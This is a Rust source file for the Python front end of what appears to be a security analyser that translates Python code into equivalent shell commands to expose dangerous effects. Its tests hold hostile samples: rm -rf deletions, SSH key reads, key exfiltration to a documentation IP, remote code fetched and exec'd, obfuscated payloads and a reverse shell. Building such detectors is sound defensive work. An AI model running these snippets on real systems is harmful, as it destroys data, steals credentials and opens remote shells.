//! Python front end: tree-sitter-python syntax to the shared [`ast`](super::ast).
//!
//! Only the shape is translated here; what calls do is in
//! `grammars/languages/python.toml` and the evaluator. A node kind not
//! handled becomes a block (statements) or an unknown expression whose
//! parts are still walked, so an unmodelled construct hides no call.

use tree_sitter::Node;

use super::ast::{BinOp, Expr, Function, Stmt, Target};
use super::{Lowering, decode_escapes};

/// The syntax tree of `code`, and whether tree-sitter found errors.
pub(crate) fn lower(code: &str) -> Lowering {
    super::lower_with(&tree_sitter_python::LANGUAGE.into(), code, statement_node, |n, src| Py { src }.stmt(n))
}

struct Py<'s> {
    src: &'s str,
}

/// Whether a block's child of this kind is a statement (not a comment).
fn statement_node(kind: &str) -> bool {
    kind != "comment"
}

impl Py<'_> {
    fn text(&self, n: Node<'_>) -> &str {
        self.src.get(n.byte_range()).unwrap_or_default()
    }

    fn block(&self, n: Node<'_>) -> Vec<Stmt> {
        let mut c = n.walk();
        n.named_children(&mut c).filter(|c| statement_node(c.kind())).map(|c| self.stmt(c)).collect()
    }

    fn stmt(&self, n: Node<'_>) -> Stmt {
        match n.kind() {
            "expression_statement" => {
                let mut c = n.walk();
                let parts: Vec<Stmt> = n.named_children(&mut c).map(|c| self.stmt(c)).collect();
                if parts.len() == 1 { parts.into_iter().next().unwrap_or(Stmt::Block(Vec::new())) } else { Stmt::Block(parts) }
            }
            "assignment" => {
                let value = match n.child_by_field_name("right") {
                    Some(r) if r.kind() == "assignment" => {
                        // `a = b = v`: evaluate the inner assignment, then read `b`.
                        let inner = self.stmt(r);
                        let last = r.child_by_field_name("left").map_or(Target::Ignored, |l| self.target(l));
                        let read = match &last {
                            Target::Name(name) => Expr::Name(name.clone()),
                            _ => Expr::Unknown(Vec::new()),
                        };
                        let target = n.child_by_field_name("left").map_or(Target::Ignored, |l| self.target(l));
                        return Stmt::Block(vec![inner, Stmt::Assign(target, read)]);
                    }
                    Some(r) => self.expr(r),
                    None => return Stmt::Block(Vec::new()),
                };
                let target = n.child_by_field_name("left").map_or(Target::Ignored, |l| self.target(l));
                Stmt::Assign(target, value)
            }
            "augmented_assignment" => {
                let op = match n.child_by_field_name("operator").map(|o| self.text(o)) {
                    Some("+=") => BinOp::Add,
                    Some("%=") => BinOp::Mod,
                    Some("/=") => BinOp::Div,
                    _ => BinOp::Other,
                };
                let target = n.child_by_field_name("left").map_or(Target::Ignored, |l| self.target(l));
                let value = n.child_by_field_name("right").map_or(Expr::Unknown(Vec::new()), |r| self.expr(r));
                Stmt::AugAssign(target, op, value)
            }
            "import_statement" => {
                let mut c = n.walk();
                let names: Vec<Node<'_>> = n.children_by_field_name("name", &mut c).collect();
                Stmt::Block(names.into_iter().map(|name| self.import(name)).collect())
            }
            "import_from_statement" => {
                let module = n.child_by_field_name("module_name").map(|m| self.text(m).to_string()).unwrap_or_default();
                let mut c = n.walk();
                let names = n
                    .children_by_field_name("name", &mut c)
                    .map(|name| match name.kind() {
                        "aliased_import" => {
                            let orig = name.child_by_field_name("name").map(|x| self.text(x).to_string()).unwrap_or_default();
                            let alias = name.child_by_field_name("alias").map_or_else(|| orig.clone(), |x| self.text(x).to_string());
                            (orig, alias)
                        }
                        _ => (self.text(name).to_string(), self.text(name).to_string()),
                    })
                    .collect();
                Stmt::ImportFrom { module, names }
            }
            "function_definition" => {
                let name = n.child_by_field_name("name").map(|x| self.text(x).to_string()).unwrap_or_default();
                let params = n.child_by_field_name("parameters").map(|p| self.params(p)).unwrap_or_default();
                let body = n.child_by_field_name("body").map(|b| self.block(b)).unwrap_or_default();
                Stmt::Def { name, function: Function { params, body } }
            }
            "decorated_definition" => {
                let mut parts: Vec<Stmt> = Vec::new();
                let mut c = n.walk();
                for d in n.named_children(&mut c).filter(|d| d.kind() == "decorator") {
                    parts.push(Stmt::Expr(self.children_expr(d)));
                }
                if let Some(def) = n.child_by_field_name("definition") {
                    parts.push(self.stmt(def));
                }
                Stmt::Block(parts)
            }
            "return_statement" => {
                let mut c = n.walk();
                let value = n.named_children(&mut c).next().map_or(Expr::Null, |v| self.expr(v));
                Stmt::Return(value)
            }
            "for_statement" => {
                let target = n.child_by_field_name("left").map_or(Target::Ignored, |l| self.target(l));
                let iter = n.child_by_field_name("right").map_or(Expr::Unknown(Vec::new()), |r| self.expr(r));
                let mut body = n.child_by_field_name("body").map(|b| self.block(b)).unwrap_or_default();
                if let Some(alt) = n.child_by_field_name("alternative") {
                    body.push(self.stmt(alt));
                }
                Stmt::For { target, iter, body }
            }
            "with_statement" => {
                let mut parts = Vec::new();
                let mut c = n.walk();
                for clause in n.named_children(&mut c).filter(|c| c.kind() == "with_clause") {
                    let mut cc = clause.walk();
                    for item in clause.named_children(&mut cc) {
                        let Some(value) = item.child_by_field_name("value") else { continue };
                        if value.kind() == "as_pattern" {
                            let mut vc = value.walk();
                            let expr = value.named_children(&mut vc).find(|x| x.kind() != "as_pattern_target");
                            let alias = value.child_by_field_name("alias").and_then(|a| a.named_child(0)).map_or(Target::Ignored, |a| self.target(a));
                            parts.push(Stmt::Assign(alias, expr.map_or(Expr::Unknown(Vec::new()), |e| self.expr(e))));
                        } else {
                            parts.push(Stmt::Expr(self.expr(value)));
                        }
                    }
                }
                if let Some(body) = n.child_by_field_name("body") {
                    parts.extend(self.block(body));
                }
                Stmt::Block(parts)
            }
            "block" | "module" | "else_clause" | "finally_clause" | "if_statement" | "elif_clause" | "while_statement" | "try_statement" | "except_clause"
            | "class_definition" | "match_statement" | "case_clause" | "ERROR" => {
                let mut c = n.walk();
                let parts = n
                    .named_children(&mut c)
                    .filter(|c| c.kind() != "comment")
                    .map(|c| if is_statement(c.kind()) { self.stmt(c) } else { Stmt::Expr(self.expr(c)) })
                    .collect();
                Stmt::Block(parts)
            }
            "comment" | "pass_statement" | "break_statement" | "continue_statement" | "global_statement" | "nonlocal_statement" | "future_import_statement" => {
                Stmt::Block(Vec::new())
            }
            k if is_statement(k) => Stmt::Expr(self.children_expr(n)),
            _ => Stmt::Expr(self.expr(n)),
        }
    }

    fn import(&self, name: Node<'_>) -> Stmt {
        match name.kind() {
            "aliased_import" => {
                let module = name.child_by_field_name("name").map(|x| self.text(x).to_string()).unwrap_or_default();
                let bind = name.child_by_field_name("alias").map_or_else(|| module.clone(), |x| self.text(x).to_string());
                Stmt::Import { module, bind }
            }
            _ => {
                // `import os.path` binds `os`.
                let full = self.text(name);
                let head = full.split('.').next().unwrap_or(full).to_string();
                Stmt::Import { module: head.clone(), bind: head }
            }
        }
    }

    fn params(&self, p: Node<'_>) -> Vec<String> {
        let mut c = p.walk();
        p.named_children(&mut c)
            .filter_map(|x| match x.kind() {
                "identifier" => Some(self.text(x).to_string()),
                "default_parameter" | "typed_default_parameter" => x.child_by_field_name("name").map(|n| self.text(n).to_string()),
                "typed_parameter" => x.named_child(0).map(|n| self.text(n).to_string()),
                _ => None,
            })
            .collect()
    }

    fn target(&self, n: Node<'_>) -> Target {
        match n.kind() {
            "identifier" => Target::Name(self.text(n).to_string()),
            "pattern_list" | "tuple_pattern" | "list_pattern" | "expression_list" | "tuple" | "list" => {
                let mut c = n.walk();
                Target::Tuple(n.named_children(&mut c).map(|x| self.target(x)).collect())
            }
            _ => Target::Ignored,
        }
    }

    /// An unknown expression made of the named children of `n`.
    fn children_expr(&self, n: Node<'_>) -> Expr {
        let mut c = n.walk();
        Expr::Unknown(n.named_children(&mut c).filter(|c| c.kind() != "comment").map(|c| self.expr(c)).collect())
    }

    fn expr(&self, n: Node<'_>) -> Expr {
        match n.kind() {
            "string" => self.string(n),
            "concatenated_string" => {
                let mut c = n.walk();
                Expr::Concat(n.named_children(&mut c).map(|s| self.string(s)).collect())
            }
            "integer" => {
                let t = self.text(n).replace('_', "");
                let v = if let Some(h) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
                    i64::from_str_radix(h, 16).ok()
                } else if let Some(o) = t.strip_prefix("0o").or_else(|| t.strip_prefix("0O")) {
                    i64::from_str_radix(o, 8).ok()
                } else {
                    t.parse().ok()
                };
                v.map_or(Expr::Unknown(Vec::new()), Expr::Num)
            }
            "true" => Expr::Bool(true),
            "false" => Expr::Bool(false),
            "none" => Expr::Null,
            "identifier" => Expr::Name(self.text(n).to_string()),
            "attribute" => {
                let obj = n.child_by_field_name("object").map_or(Expr::Unknown(Vec::new()), |o| self.expr(o));
                let attr = n.child_by_field_name("attribute").map(|a| self.text(a).to_string()).unwrap_or_default();
                Expr::Attr(Box::new(obj), attr)
            }
            "subscript" => {
                let obj = n.child_by_field_name("value").map_or(Expr::Unknown(Vec::new()), |o| self.expr(o));
                match n.child_by_field_name("subscript") {
                    Some(s) if s.kind() == "slice" => {
                        if self.text(s).replace(' ', "") == "::-1" {
                            Expr::Reversed(Box::new(obj))
                        } else {
                            Expr::Unknown(vec![obj])
                        }
                    }
                    Some(s) => Expr::Index(Box::new(obj), Box::new(self.expr(s))),
                    None => Expr::Unknown(vec![obj]),
                }
            }
            "call" => {
                let func = n.child_by_field_name("function").map_or(Expr::Unknown(Vec::new()), |f| self.expr(f));
                let mut args = Vec::new();
                let mut kwargs = Vec::new();
                match n.child_by_field_name("arguments") {
                    Some(a) if a.kind() == "generator_expression" => args.push(self.expr(a)),
                    Some(a) => {
                        let mut c = a.walk();
                        for arg in a.named_children(&mut c) {
                            match arg.kind() {
                                "keyword_argument" => {
                                    let name = arg.child_by_field_name("name").map(|x| self.text(x).to_string()).unwrap_or_default();
                                    let value = arg.child_by_field_name("value").map_or(Expr::Unknown(Vec::new()), |v| self.expr(v));
                                    kwargs.push((name, value));
                                }
                                "comment" => {}
                                _ => args.push(self.expr(arg)),
                            }
                        }
                    }
                    None => {}
                }
                Expr::Call { func: Box::new(func), args, kwargs }
            }
            "binary_operator" => {
                let op = match n.child_by_field_name("operator").map(|o| self.text(o)) {
                    Some("+") => BinOp::Add,
                    Some("/") => BinOp::Div,
                    Some("%") => BinOp::Mod,
                    _ => BinOp::Other,
                };
                let l = n.child_by_field_name("left").map_or(Expr::Unknown(Vec::new()), |x| self.expr(x));
                let r = n.child_by_field_name("right").map_or(Expr::Unknown(Vec::new()), |x| self.expr(x));
                Expr::Binary(op, Box::new(l), Box::new(r))
            }
            "parenthesized_expression" | "await" => n.named_child(0).map_or(Expr::Unknown(Vec::new()), |x| self.expr(x)),
            "list" | "tuple" | "set" | "expression_list" => {
                let mut c = n.walk();
                Expr::List(n.named_children(&mut c).filter(|c| c.kind() != "comment").map(|x| self.expr(x)).collect())
            }
            "dictionary" => {
                let mut c = n.walk();
                let mut items = Vec::new();
                let mut rest = Vec::new();
                for pair in n.named_children(&mut c) {
                    let (Some(k), Some(v)) = (pair.child_by_field_name("key"), pair.child_by_field_name("value")) else {
                        rest.push(self.expr(pair));
                        continue;
                    };
                    match self.expr(k) {
                        Expr::Str(key) => items.push((key, self.expr(v))),
                        other => rest.extend([other, self.expr(v)]),
                    }
                }
                if rest.is_empty() { Expr::Dict(items) } else { Expr::Unknown(items.into_iter().map(|(_, v)| v).chain(rest).collect()) }
            }
            "lambda" => {
                let params = n.child_by_field_name("parameters").map(|p| self.params(p)).unwrap_or_default();
                let body = n.child_by_field_name("body").map_or(Expr::Null, |b| self.expr(b));
                Expr::Function(Box::new(Function { params, body: vec![Stmt::Return(body)] }))
            }
            "list_comprehension" | "generator_expression" | "set_comprehension" => {
                let body = n.child_by_field_name("body").map_or(Expr::Unknown(Vec::new()), |b| self.expr(b));
                let mut c = n.walk();
                let clauses: Vec<Node<'_>> = n.named_children(&mut c).filter(|x| x.kind() == "for_in_clause").collect();
                match clauses.as_slice() {
                    [clause] => {
                        let target = clause.child_by_field_name("left").map_or(Target::Ignored, |l| self.target(l));
                        let iter = clause.child_by_field_name("right").map_or(Expr::Unknown(Vec::new()), |r| self.expr(r));
                        Expr::Comprehension { body: Box::new(body), target, iter: Box::new(iter) }
                    }
                    _ => self.children_expr(n),
                }
            }
            "conditional_expression" => {
                // `a if c else b`: either may be the value; the first is kept, both are evaluated.
                let mut c = n.walk();
                let parts: Vec<Expr> = n.named_children(&mut c).map(|x| self.expr(x)).collect();
                match parts.into_iter().next() {
                    Some(first) => first,
                    None => Expr::Unknown(Vec::new()),
                }
            }
            _ => self.children_expr(n),
        }
    }

    fn string(&self, n: Node<'_>) -> Expr {
        if n.kind() != "string" {
            return self.expr(n);
        }
        let mut c = n.walk();
        let mut prefix = String::new();
        let mut parts: Vec<Expr> = Vec::new();
        let mut pending = String::new();
        for child in n.children(&mut c) {
            match child.kind() {
                "string_start" => prefix = self.text(child).trim_end_matches(['"', '\'']).to_ascii_lowercase(),
                "string_content" => {
                    let raw = self.text(child);
                    pending.push_str(&if prefix.contains('r') { raw.to_string() } else { decode_escapes(raw) });
                }
                "interpolation" => {
                    if !pending.is_empty() {
                        parts.push(Expr::Str(std::mem::take(&mut pending)));
                    }
                    parts.push(child.child_by_field_name("expression").map_or(Expr::Unknown(Vec::new()), |e| self.expr(e)));
                }
                "escape_interpolation" => pending.push_str(&self.text(child)[..1]),
                _ => {}
            }
        }
        if parts.is_empty() {
            return Expr::Str(pending);
        }
        if !pending.is_empty() {
            parts.push(Expr::Str(pending));
        }
        Expr::Concat(parts)
    }
}

fn is_statement(kind: &str) -> bool {
    kind.ends_with("_statement")
        || kind.ends_with("_definition")
        || kind.ends_with("_clause")
        || matches!(kind, "block" | "assignment" | "augmented_assignment")
}

#[cfg(test)]
mod tests {
    use crate::ir::lang::analyse;
    use crate::ir::spec::Language;

    fn lines(code: &str) -> Vec<String> {
        analyse(Language::Python, code).expect("python front end").lines
    }

    fn gaps(code: &str) -> Vec<String> {
        analyse(Language::Python, code).expect("python front end").gaps
    }

    #[test]
    fn literal_calls_are_their_shell_commands() {
        assert_eq!(lines("import os; os.system('rm -rf /')"), ["rm -rf /"]);
        assert_eq!(lines("import subprocess; subprocess.run(['rm', '-rf', '/home/dev'])"), ["rm -rf /home/dev"]);
        assert_eq!(lines("import shutil\nshutil.rmtree('/etc')"), ["rm -rf /etc"]);
        assert_eq!(lines("print(open('/home/dev/.ssh/id_rsa').read())"), ["cat /home/dev/.ssh/id_rsa"]);
        assert_eq!(lines("open('/etc/hosts', 'a').write('x')"), ["tee -a /etc/hosts", "printf '%s\\n' x | tee -a /etc/hosts"]);
    }

    #[test]
    fn values_are_followed() {
        assert_eq!(lines("import os\nh = os.path.expanduser('~')\ncmd = 'rm -rf ' + h\nos.system(cmd)"), ["rm -rf ~"]);
        assert_eq!(
            lines("import os\np = os.path.join(os.environ['HOME'], '.bashrc')\nwith open(p, 'a') as f:\n    f.write('x')"),
            ["tee -a ~/.bashrc", "printf '%s\\n' x | tee -a ~/.bashrc"]
        );
        assert_eq!(lines("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()"), ["cat ~/.ssh/id_rsa"]);
        assert_eq!(lines("import os\nt = 'rm'\nt += ' -rf'\nos.system(f\"{t} {os.getenv('HOME')}\")"), ["rm -rf ~"]);
        assert_eq!(lines("import os\nos.system('rm -rf %s' % '/srv')"), ["rm -rf /srv"]);
        assert_eq!(lines("import os\nos.system('{} -rf {}'.format('rm', '/srv'))"), ["rm -rf /srv"]);
    }

    #[test]
    fn aliases_and_function_arguments() {
        assert_eq!(lines("import subprocess as sp\nsp.call('id', shell=True)"), ["id"]);
        assert_eq!(lines("from shutil import rmtree as zap\nzap('/var')"), ["rm -rf /var"]);
        assert_eq!(lines("o = __import__('os')\no.system('whoami')"), ["whoami"]);
        assert_eq!(lines("import os\ndef wipe(p):\n    os.system('rm -rf ' + p)\nwipe('/opt')"), ["rm -rf /opt"]);
        assert_eq!(lines("import os\nfor d in ['/a', '/b']:\n    os.remove(d)"), ["rm -f /a", "rm -f /b"]);
    }

    #[test]
    fn decoders_are_seen_through() {
        let found = lines("import base64, os\nos.system(base64.b64decode('cm0gLXJmIH4=').decode())");
        assert!(found.contains(&"rm -rf ~".to_string()), "{found:?}");
        assert!(found.iter().any(|l| l.contains("base64 -d | sh")), "{found:?}");
        assert!(lines("import os\nos.system(''.join(map(chr, [105, 100])))").contains(&"id".to_string()));
        assert!(lines("import os\nos.system('di'[::-1])").contains(&"id".to_string()));
        assert!(lines("import os\nos.system(bytes.fromhex('6964').decode())").contains(&"id".to_string()));
        let exec = lines("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))");
        assert!(exec.contains(&"id".to_string()), "{exec:?}");
        assert!(exec.iter().any(|l| l.ends_with("| base64 -d | python3")), "{exec:?}");
    }

    #[test]
    fn data_flows_to_where_it_goes() {
        let code = "import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://203.0.113.9/u', data=k)";
        assert!(lines(code).contains(&"cat ~/.ssh/id_rsa | curl -X POST --data-binary @- https://203.0.113.9/u".to_string()));
        assert_eq!(lines("import os\nprint(dict(os.environ))"), ["env"]);
        assert_eq!(lines("import os\nprint(os.environ.get('DEBUG'))"), ["printenv DEBUG"]);
        assert!(
            lines("import urllib.request as u\nexec(u.urlopen('https://203.0.113.9/x.py').read())")
                .contains(&"curl -fsSL https://203.0.113.9/x.py | python3".to_string())
        );
    }

    #[test]
    fn a_socket_wired_to_a_shell_is_a_reverse_shell() {
        let code = "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('203.0.113.5',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nimport pty\npty.spawn('/bin/sh')";
        assert!(lines(code).contains(&"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1".to_string()), "{:?}", lines(code));
        let local = "import socket\ns=socket.socket()\ns.connect(('127.0.0.1', 8000))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(100))";
        assert!(lines(local).is_empty(), "{:?}", lines(local));
    }

    #[test]
    fn computed_code_and_commands_are_gaps() {
        assert!(!gaps("import os, sys\nos.system(sys.stdin.read())").is_empty());
        assert!(!gaps("exec(input())").is_empty());
        assert!(gaps("import os\nos.system('ls')").is_empty());
        assert!(analyse(Language::Python, "def f(:\n  pass").expect("front end").syntax_error);
    }

    #[test]
    fn harmless_code_has_no_effects() {
        for code in [
            "import sys; print(sys.version)",
            "import json\nd = json.load(open('package.json'))\nprint(d['name'])",
            "import pandas as pd\ndf = pd.read_csv('data.csv')\nprint(df.describe())",
            "print(sum(range(10)))",
            "import os\nprint(os.getcwd())",
        ] {
            let found = analyse(Language::Python, code).expect("front end");
            assert!(found.gaps.is_empty(), "{code}: {:?}", found.gaps);
            assert!(found.lines.iter().all(|l| l.starts_with("cat ")), "{code}: {:?}", found.lines);
        }
    }
}
